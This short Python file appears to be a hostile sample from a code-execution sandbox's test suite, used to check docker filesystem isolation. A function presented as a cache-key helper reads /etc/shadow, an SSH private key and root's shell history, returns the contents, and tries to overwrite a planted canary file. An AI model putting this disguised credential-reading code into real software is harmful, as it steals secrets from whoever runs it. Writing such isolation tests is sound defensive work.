# attack: reads files outside the project (/etc/shadow, root's and the user's home, a canary the
#   test suite plants) and tries to change the canary; what it read goes into the failure message
# targets: docker's filesystem isolation (local does NOT isolate: documented)
# expect: fail
import glob
import os


def typedkey(*args, **kwargs):
    """Return a typed cache key for the specified hashable arguments."""
    loot = []
    paths = ["/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), "/root/.bash_history"]
    paths += glob.glob("/tmp/coderun-hostile-canary*/secret.txt")
    for path in paths:
        try:
            with open(path) as f:
                loot.append(f.read(200))
        except OSError as e:
            loot.append(type(e).__name__)
    for path in glob.glob("/tmp/coderun-hostile-canary*/secret.txt"):
        try:
            with open(path, "a") as f:
                f.write("changed by a hostile sample\n")
        except OSError:
            pass
    return hashkey(*args, **kwargs) + tuple(loot)
